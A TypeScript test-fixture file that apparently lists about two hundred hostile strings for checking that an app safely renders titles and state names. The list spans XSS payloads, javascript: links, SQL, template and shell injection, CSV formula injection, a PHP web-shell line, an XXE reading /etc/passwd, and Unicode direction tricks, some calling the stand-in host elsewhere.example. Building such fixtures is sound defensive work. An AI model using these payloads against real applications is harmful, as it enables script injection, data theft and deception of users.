// Two hundred texts that somebody might write to harm whoever reads them. What runs in one of them sets `pwned`, or calls
// elsewhere.example.

const js = 'window.pwned=1';
const far = 'https://elsewhere.example';

const scripts = [
  `<script>${js}</script>`,
  `<SCRIPT SRC=${far}/x.js></SCRIPT>`,
  `<scr<script>ipt>${js}</scr</script>ipt>`,
  `"><script>${js}</script>`,
  `'><script>${js}</script>`,
  `</script><script>${js}</script>`,
  `</title><script>${js}</script>`,
  `</textarea><script>${js}</script>`,
  `</style><script>${js}</script>`,
  `--><script>${js}</script>`,
  `]]><script>${js}</script>`,
  `<script type=module>import '${far}/x.js'</script>`,
  `<script/src=data:,${js}></script>`,
  `<noscript><p title="</noscript><img src=x onerror=${js}>">`,
  `<template><script>${js}</script></template>`,
  `\\u003cscript\\u003e${js}\\u003c/script\\u003e`,
  `&lt;script&gt;${js}&lt;/script&gt;`,
  `&#60;script&#62;${js}&#60;/script&#62;`,
  `%3Cscript%3E${js}%3C/script%3E`,
  `＜script＞${js}＜/script＞`,
  `<ſcript>${js}</ſcript>`,
];

const handlers = [
  ...['img src=x onerror', 'svg onload', 'body onload', 'video src=x onerror', 'audio src=x onerror', 'iframe onload', 'input autofocus onfocus'],
  ...['select autofocus onfocus', 'textarea autofocus onfocus', 'details open ontoggle', 'marquee onstart', 'object data=x onerror'],
  ...['style onload', 'link rel=stylesheet href=x onerror', 'embed src=x onload', 'math onmouseover', 'p tabindex=1 autofocus onfocus'],
  ...['a autofocus tabindex=0 onfocusin', 'svg><animate onbegin', 'svg><set attributeName=x onend', 'form><button formaction=x onfocus autofocus'],
].map((start) => `<${start}=${js}>`);

const addresses = [
  `javascript:${js}`,
  `JaVaScRiPt:${js}`,
  `java\tscript:${js}`,
  ` javascript:${js}`,
  `javascript://x%0A${js}`,
  `vbscript:msgbox(1)`,
  `data:text/html,<script>${js}</script>`,
  `data:text/html;base64,PHNjcmlwdD53aW5kb3cucHduZWQ9MTwvc2NyaXB0Pg==`,
  `<a href="javascript:${js}">Approve</a>`,
  `<a href=${far} target=_blank>Approve</a>`,
  `[Approve](javascript:${js})`,
  `![](${far}/pixel.png)`,
  `![x](x "onerror=${js}")`,
  `<${far}>`,
  `${far}/?token=owb_0`,
  `//elsewhere.example/x.js`,
  `\\\\elsewhere.example\\share`,
  `file:///etc/passwd`,
  `https://northgate.example@elsewhere.example/`,
  `openweave://localhost/console/session`,
];

const elements = [
  `<img src=${far}/pixel.png>`,
  `<img srcset="${far}/pixel.png 1x">`,
  `<picture><source srcset=${far}/pixel.png><img></picture>`,
  `<iframe src=${far}></iframe>`,
  `<iframe srcdoc="<script>parent.pwned=1</script>"></iframe>`,
  `<object data=${far}/x.swf></object>`,
  `<embed src=${far}/x.swf>`,
  `<base href=${far}/>`,
  `<meta http-equiv=refresh content="0;url=${far}">`,
  `<link rel=prefetch href=${far}>`,
  `<link rel=dns-prefetch href=//elsewhere.example>`,
  `<form action=${far}><input name=password><button>Sign in</button></form>`,
  `<video poster=${far}/pixel.png></video>`,
  `<svg><image href=${far}/pixel.png></svg>`,
  `<svg><use href="data:image/svg+xml,<svg id=x onload=${js}>#x"></svg>`,
  `<svg><foreignObject><iframe src=${far}></iframe></foreignObject></svg>`,
  `<svg><script href=data:,${js} /></svg>`,
  `<math><mtext><table><mglyph><style><img src=x onerror=${js}>`,
  `<dialog open>You are signed out</dialog>`,
  `<h1>Approved by Mirela Ionescu</h1>`,
  `<button onclick=${js}>Approve</button>`,
  `<slot onslotchange=${js}></slot>`,
  `<portal src=${far}></portal>`,
  `<fieldset disabled><input value=Approve></fieldset>`,
];

const templates = [
  `{{constructor.constructor('${js}')()}}`,
  `\${${js}}`,
  `#{${js}}`,
  `<%= ${js} %>`,
  `{@html '<script>${js}</script>'}`,
  `{#if true}{@debug}{/if}`,
  `{%raw%}{{7*7}}{%endraw%}`,
  `[[${js}]]`,
  `$(touch /tmp/pwned)`,
  `\`touch /tmp/pwned\``,
  `; touch /tmp/pwned #`,
  `=HYPERLINK("${far}","Approve")`,
  `=cmd|' /C calc'!A0`,
  `@SUM(1+1)*cmd|' /C calc'!A0`,
  `'; DROP TABLE log; --`,
  `' OR '1'='1`,
  `") UNION SELECT secret FROM s_tokens --`,
  `{"__proto__":{"pwned":1}}`,
  `__proto__`,
  `constructor`,
  `../../../../etc/passwd`,
  `%s%s%s%n`,
  `<?php system($_GET[0]); ?>`,
  `<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>`,
  `<!--#exec cmd="touch /tmp/pwned" -->`,
  `<![CDATA[<script>${js}</script>]]>`,
  `\\x3cscript\\x3e${js}\\x3c/script\\x3e`,
];

const styles = [
  `<style>*{display:none}</style>`,
  `<style>@import '${far}/x.css';</style>`,
  `<style>body{background:url(${far}/pixel.png)}</style>`,
  `<p style="position:fixed;inset:0;background:url(${far}/pixel.png)">`,
  `" style="position:fixed;inset:0" x="`,
  `;}*{visibility:hidden`,
  `</style><style>:root{--ink:red}`,
  `<font size=7 color=red>APPROVED</font>`,
];

/** Characters that turn round or hide what stands beside them. */
export const hidden = [
  ...['\u202a', '\u202b', '\u202d', '\u202e', '\u2066', '\u2067', '\u2068', '\u200e', '\u200f', '\u061c'],
  ...['\u200b', '\u200c', '\u200d', '\u2060', '\ufeff', '\u00ad', '\u180e', '\u034f', '\u115f', '\u1160', '\u3164', '\uffa0', '\u2061', '\u2063', '\u206a', '\u{e0041}', '\u{e007f}', '\ufff9'],
];

const turned = [
  ...hidden.slice(0, 10).map((mark) => `Deploy ${mark}gpj.exe\u202c to production`),
  '\u202eevorppA\u202c',
  'Reject\u202e (not) evorppa \u202c',
  'PAY-1\u2066\u202e24-YAP\u2069',
  '\u2067\u2067\u2067\u2067\u2067 never closed',
];

const unseen = [
  ...hidden.slice(10).map((mark) => `de${mark}ploy-bot`),
  '\u200b\u200b\u200bOnly nothing before this',
  'a\u200d\u200d\u200d\u200d\u200db',
  `tagged ${[...'reject'].map((letter) => String.fromCodePoint(0xe0000 + letter.charCodeAt(0))).join('')} words`,
];

const letters = [
  'а́dmin with a Cyrillic а',
  'Мirela Ionescu',
  'ⅿⅰrela',
  'مرحبا بالعالم, approve this',
  'שלום (approve) עולם 123',
  'עברית <script>window.pwned=1</script> עברית',
  `Z${'\u0335\u0336\u0337\u0338\u0488\u0489'.repeat(12)}a${'\u0300\u0301\u0302\u0303'.repeat(12)}lgo`,
  `stacked ${'\u0f39'.repeat(60)}`,
  '😀👩‍👩‍👧‍👦🏳️‍🌈',
  '\u{1f1e9}\u{1f1ea}\u{1f1eb}',
  '﷽﷽﷽﷽﷽﷽﷽﷽',
  '𝕬𝖕𝖕𝖗𝖔𝖛𝖊𝖉',
  'ﬁle ﬂag ﬀ',
  'İstanbul ıI ß ẞ',
  '\ufffd\ufffe',
  '\u{10ffff}',
];

const words = [
  'W'.repeat(190),
  'unbroken_'.repeat(20),
  `${'-'.repeat(150)}>`,
  'a '.repeat(95).trim(),
  '.'.repeat(199),
  'null',
  'undefined',
  'NaN',
  '[object Object]',
  'true',
  '0',
  '-1',
  '9007199254740993',
  '1e309',
  '# Heading',
  '**bold** _it_ ~~no~~',
  '> quoted\t\tand tabbed',
  '| a | b |',
  '- [x] Approved by Mirela',
  '```js window.pwned=1```',
  '\u001b[31mred\u001b[0m',
  '\u001b]8;;https://elsewhere.example\u0007Approve\u001b]8;;\u0007',
  '\u001b[2J\u001b[H',
  'a nul \u0000 inside',
  'bell \u0007 and backspace \u0008\u0008\u0008',
];

/** Those that do not. */
export const lines: readonly string[] = [
  'one line\nApproved, and moved.',
  'carriage\rreturn',
  'separated\u2028lines\u2029paragraphs',
];

/** Those that fit on one line, where a title may stand. */
export const oneLine: readonly string[] = [...scripts, ...handlers, ...addresses, ...elements, ...templates, ...styles, ...turned, ...unseen, ...letters, ...words];

/** All of them. */
export const hostile: readonly string[] = [...oneLine, ...lines];

/** Those that a name of a state or a transition may be: short, and nothing hidden in them. */
export const asNames: readonly string[] = [...scripts, ...handlers, ...elements].filter((text) => text.length <= 80 && text === text.normalize('NFC'));
